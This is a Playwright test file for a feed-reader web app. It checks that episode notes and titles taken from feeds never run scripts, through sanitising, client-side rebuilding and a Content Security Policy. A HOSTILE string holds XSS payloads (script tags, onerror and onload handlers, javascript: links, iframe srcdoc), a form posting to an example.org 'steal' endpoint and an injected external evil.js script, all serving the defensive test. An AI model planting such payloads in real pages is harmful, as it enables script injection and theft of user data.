"""What comes from a feed never runs, and the policy holds where everything else fails."""

import json
from collections.abc import Callable

from conftest import Console
from house import House
from listener import Listener
from playwright.sync_api import BrowserContext, Page, Route, expect
from publisher import Publisher

HOSTILE = """<p>Before</p>
<script>window.ran = 'script'</script>
<img src="x" onerror="window.ran = 'onerror'">
<svg onload="window.ran = 'svg'"><script>window.ran = 'svg script'</script></svg>
<a href="javascript:window.ran = 'link'">a trap</a>
<iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
<p style="background:url(javascript:alert(1))" onclick="window.ran = 'click'">styled</p>
<form action="https://example.org/steal"><input name="a"><button>Send</button></form>
<p>After</p>"""
RAN = "() => window.ran ?? null"


def test_a_script_in_the_notes_never_runs(
    page: Page, house: House, size: str, name: str, publisher: Publisher
) -> None:
    publisher.notes = HOSTILE
    listener = Listener(page, house.address, size == "phone", name, house)
    house.let_in(page.context, name)
    feed = house.subscribe(page.context, f"{publisher.address}/harbour.xml")
    listener.arrive(f"#/feeds/{feed}")
    listener.open_episode("Long crossing")
    notes = listener.episode.locator(".notes")
    expect(notes).to_contain_text("After")
    notes.get_by_text("styled").click()
    assert page.evaluate(RAN) is None
    assert notes.locator("script, iframe, form, svg, [onclick], [style], a[href^='javascript:']").count() == 0


def test_a_script_never_runs_even_if_the_server_let_it_through(
    window: Callable[..., BrowserContext], house: House, size: str, name: str, publisher: Publisher, console: Console
) -> None:
    """The page builds notes anew from what it allows: a second fence behind the server's."""

    console.expect("Content Security Policy", "status of 404 .*/x$")

    def poison(route: Route) -> None:
        answer = route.fetch()
        entry = answer.json()
        entry["notes"] = HOSTILE
        entry["title"] = "<img src=x onerror=\"window.ran='title'\">"
        route.fulfill(response=answer, body=json.dumps(entry))

    context = window(service_workers="block")
    listener = Listener(context.new_page(), house.address, size == "phone", name, house)
    house.let_in(context, name)
    feed = house.subscribe(context, f"{publisher.address}/harbour.xml")
    listener.arrive(f"#/feeds/{feed}")
    listener.page.route("**/api/entries/*", poison)
    listener.row("Long crossing").locator("a").click()
    notes = listener.episode.locator(".notes")
    expect(notes).to_contain_text("After")
    notes.get_by_text("styled").click()
    assert listener.page.evaluate(RAN) is None
    expect(listener.episode.get_by_role("heading", name="<img src=x")).to_be_visible()


def test_the_policy_itself_stops_what_got_into_the_page(subscriber: Listener, console: Console) -> None:
    """The third fence: markup in the page, as a mistake of the page would put it there."""
    console.expect("Content Security Policy", "ERR_BLOCKED_BY_CSP", "violates the following", "status of 404 .*/nothing")
    page = subscriber.page
    page.evaluate(
        """() => {
          const box = document.createElement('div');
          document.body.append(box);
          box.innerHTML = '<img src="/nothing" onerror="window.ran = 1"><a href="javascript:window.ran=2" id="trap">x</a>';
          const inline = document.createElement('script');
          inline.textContent = 'window.ran = 3';
          box.append(inline);
          const foreign = document.createElement('script');
          foreign.src = 'https://example.org/evil.js';
          box.append(foreign);
          document.getElementById('trap').click();
          setTimeout("window.ran = 4", 0);
        }"""
    )
    page.evaluate("() => new Promise(done => setTimeout(done, 100))")
    assert page.evaluate(RAN) is None


def test_every_answer_forbids_frames_inline_scripts_and_foreign_sources(listener: Listener) -> None:
    for path in ("/", "/app.js", "/api/me", "/api/feeds"):
        answer = listener.page.request.get(listener.address + path)
        policy = dict(
            (part.split(" ")[0], part.split(" ")[1:])
            for part in (answer.headers["content-security-policy"]).split("; ")
        )
        assert policy["script-src"] == ["'self'"], path
        assert policy["style-src"] == ["'self'"], path
        assert policy["frame-ancestors"] == ["'none'"], path
        assert policy["object-src"] == ["'none'"], path
        assert policy["base-uri"] == ["'none'"], path
        assert answer.headers["x-content-type-options"] == "nosniff", path
